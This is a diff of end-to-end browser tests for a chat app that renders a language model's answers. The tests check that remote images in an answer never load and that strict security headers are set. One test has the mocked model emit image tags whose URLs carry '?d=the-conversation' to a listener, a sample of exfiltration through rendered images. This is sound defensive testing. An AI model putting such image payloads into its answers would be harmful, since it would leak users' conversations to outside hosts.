@@ -58,23 +58,31 @@ class Served:
 
 @dataclass
 class Pages:
-    """Opens pages signed in to the served app; remembers them for failure screenshots."""
+    """Opens pages signed in to the served app; remembers them for failure screenshots.
+
+    The login link works once: the first page opens it, later pages start from that
+    page's cookie (as a second tab of the same browser would)."""
 
     browser: Any
     served: Served
     shots: Path
     opened: list[Any] = field(default_factory=list)
+    signed_in: Any = None
+    first_response: Any = None
 
     def open(self, viewport: dict[str, int] = DESKTOP, via: str | None = None) -> Any:
-        context = self.browser.new_context(viewport=viewport)
+        context = self.browser.new_context(viewport=viewport, storage_state=self.signed_in)
         context.set_default_timeout(WAIT_MS)
         page = context.new_page()
         self.opened.append(page)
-        login = self.served.login
+        target = self.served.url + "/" if self.signed_in is not None else self.served.login
         if via is not None:
-            login = login.replace(self.served.url, via)
-        page.goto(login)  # sets the session cookie, redirects to /
+            target = target.replace(self.served.url, via)
+        response = page.goto(target)  # the login link sets the session cookie, then /
         page.locator("body[data-ready=true]").wait_for()
+        if self.signed_in is None:
+            self.signed_in = context.storage_state()
+            self.first_response = response
         return page
 
     def close(self) -> None:
@@ -245,8 +253,10 @@ def answers(page: Any) -> Any:
 
 
 def settled(page: Any) -> None:
-    """Wait until no streamed bubble is left: every answer is shown from the transcript."""
-    page.wait_for_function("document.querySelectorAll('#live .msg').length === 0")
+    """Wait until no streamed bubble is left: every answer is shown from the transcript.
+    (Waits are given as functions: an expression string is run through eval, which the
+    page's policy refuses.)"""
+    page.wait_for_function("() => document.querySelectorAll('#live .msg').length === 0")
 
 
 def log_text(page: Any) -> str:
@@ -302,6 +312,71 @@ def test_an_answer_never_runs_script_from_its_markdown(pages: Pages, model: Open
     settled(page)
     assert page.evaluate("window.pwned === undefined")
     assert page.locator("#log script").count() == 0
+
+
+class Listener:
+    """A loopback TCP listener that records every connection made to it (a remote host an
+    answer's image might name); it never answers."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.url = f"http://127.0.0.1:{self.sock.getsockname()[1]}"
+        self.seen: list[bytes] = []
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            with conn:
+                conn.settimeout(2)
+                with contextlib.suppress(OSError):
+                    self.seen.append(conn.recv(4096) or b"(connected)")
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+@screenshots_on_failure
+def test_an_answers_remote_image_is_a_link_and_never_loaded(
+    pages: Pages, model: OpenAIServer
+) -> None:
+    listener = Listener()
+    try:
+        leak = f"{listener.url}/?d=the-conversation"
+        model.push(
+            text_reply(
+                f'Here: ![chart]({leak}) and <img src="{listener.url}/raw.png"> and '
+                '<img srcset="{0}/set.png 2x"> and ![dot](data:image/gif;base64,'
+                "R0lGODlhAQABAAAAACw=) done".replace("{0}", listener.url)
+            )
+        )
+        page = pages.open()
+        headers = pages.first_response.request.redirected_from.response().headers
+        page_headers = page.request.get(pages.served.url + "/").headers
+        for seen in (headers, page_headers):
+            policy = seen["content-security-policy"]
+            assert "img-src 'self' data:" in policy and "connect-src 'self'" in policy
+            assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy
+            assert seen["x-content-type-options"] == "nosniff"
+            assert seen["referrer-policy"] == "no-referrer"
+        send(page, "show me a chart")
+        answer = answers(page).last.locator(".body", has_text="done")
+        answer.wait_for()
+        settled(page)
+        link = answers(page).last.locator("a.image-link", has_text="chart")
+        assert link.get_attribute("href") == leak
+        assert answers(page).last.locator("a.image-link").count() == 3
+        assert answers(page).last.locator(f"img[src^='{listener.url}']").count() == 0
+        assert page.evaluate("location.search") == ""  # the token left the address bar
+        page.reload()
+        page.locator("body[data-ready=true]").wait_for()
+        answers(page).last.locator(".body", has_text="done").wait_for()
+        assert listener.seen == []
+    finally:
+        listener.close()
 
 
 def script_delete(model: OpenAIServer, after: str) -> None:
@@ -441,7 +516,7 @@ def test_switching_personality_sends_the_next_message_to_it(
     # The session keeps it: reopened, the switch shows the session's personality.
     page.reload()
     page.locator("body[data-ready=true]").wait_for()
-    page.wait_for_function("document.getElementById('personality').value === 'pirate'")
+    page.wait_for_function("() => document.getElementById('personality').value === 'pirate'")
 
 
 @screenshots_on_failure
@@ -459,7 +534,9 @@ def test_sessions_are_searched_and_reopened(pages: Pages, model: OpenAIServer) -
     page.locator("#search").fill("apples")
     listed = page.locator("#sessions button.session")
     listed.filter(has_text="apples").first.wait_for()
-    page.wait_for_function("document.querySelectorAll('#sessions button.session').length === 1")
+    page.wait_for_function(
+        "() => document.querySelectorAll('#sessions button.session').length === 1"
+    )
     listed.first.click()
     answers(page).last.locator(".body", has_text="Apples are red.").wait_for()
     assert "Bananas" not in log_text(page)
@@ -497,7 +574,7 @@ def test_cancel_stops_a_running_answer(pages: Pages, model: OpenAIServer) -> Non
     cancel.click()
     page.locator("#status", has_text="Cancelled.").wait_for()
     settled(page)
-    page.wait_for_function("document.getElementById('cancel').disabled")
+    page.wait_for_function("() => document.getElementById('cancel').disabled")
     assert "THE END." not in log_text(page)
     # The session goes on.
     send(page, "are you there?")
